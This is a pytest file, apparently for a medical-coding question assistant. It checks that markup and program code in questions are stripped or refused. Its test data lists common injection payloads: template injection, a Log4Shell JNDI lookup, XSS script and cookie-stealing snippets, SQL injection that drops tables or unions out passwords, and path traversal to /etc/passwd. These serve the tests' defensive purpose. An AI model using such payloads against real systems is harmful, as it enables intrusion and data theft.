"""Markup and program code in a question: left out, refused where nothing else is asked."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.engine.answer import Outcome, Reason
from assistant.engine.entry import answer
from assistant.engine.markup import asks_nothing, without_markup
from tests import factories
from tests.assistant.askers import MEMBER


@pytest.mark.parametrize(
    "text",
    [
        "{{ 7*7 }}",
        "{{ 7*7 }} {% debug %}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "${jndi:ldap://example.org/a}",
        "<script>alert('pwned')</script>",
        "<script src=//example.org/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<!-- hidden orders -->",
        "'; DROP TABLE codes_code; --",
        "'); drop table students;--",
        "' OR '1'='1' --",
        "' UNION SELECT password FROM accounts_user --",
        "SELECT * FROM accounts_user WHERE id = 1;",
        "```python\nimport os\nprint(1)\n```",
        "javascript:alert(document.cookie)",
        "../../etc/passwd",
        "%s%s%s%n",
    ],
)
def test_is_all_there_is(text: str) -> None:
    rest, has_markup = without_markup(text)
    assert has_markup
    assert asks_nothing(rest), rest


@pytest.mark.parametrize(
    "text",
    [
        "What is 99213?",
        "GFR <60 and >30, which code?",
        "BMI < 40 and > 35",
        "99213 & 36415; select the right one",
        "respiratory system (lungs) code",
        "lung function (FEV1) test",
        "was 99201 deleted from CPT?",
        "does it drop to 50 % [second procedure]?",
        "E11.9 / I10 - which first?",
        "update of the code set in 2026",
        "table of drugs: insulin {glargine}",
        "patient's or provider's choice = 1 unit",
    ],
)
def test_is_none(text: str) -> None:
    assert without_markup(text) == (text, False)


@given(st.text(alphabet="<>{}%$#';`()abort 17=-/\\\n", max_size=200))
def test_leaves_no_more_than_there_was(text: str) -> None:
    rest, has_markup = without_markup(text)
    assert len(rest) <= len(text)
    assert has_markup or rest == text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text", ["{{ 7*7 }} {% debug %}", "<script>alert(1)</script>", "'; DROP TABLE codes_code; --"]
)
def test_alone_is_refused_with_the_reason_and_nothing_is_searched(text: str) -> None:
    factories.code("99213", short_descriptor="Debug table drop 7")
    found = answer(text, MEMBER)
    assert (found.outcome, found.reason) == (Outcome.REFUSED, Reason.OUTSIDE)
    assert "markup or program code" in found.statements[0].text
    assert found.codes == ()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text",
    [
        "<b>What is 99213?</b>",
        "What is 99213'; DROP TABLE codes_code; --",
        "What is 99213? {{ config }}",
        "Robert'); DROP TABLE students;-- what is 99213",
    ],
)
def test_beside_a_question_is_left_out_and_told(text: str) -> None:
    factories.code("99213", short_descriptor="Visit of a known patient")
    found = answer(text, MEMBER)
    assert found.outcome is Outcome.ANSWERED
    assert [code.display for code in found.subjects] == ["99213"]
    assert "Markup or program code in the message was not read." in found.notices
    assert found.question == text


@pytest.mark.django_db
def test_a_number_alone_names_no_code() -> None:
    factories.code("R29.707", of=factories.system("icd-10-cm"), short_descriptor="NIHSS score 7")
    assert answer("7*7", MEMBER).outcome is Outcome.REFUSED
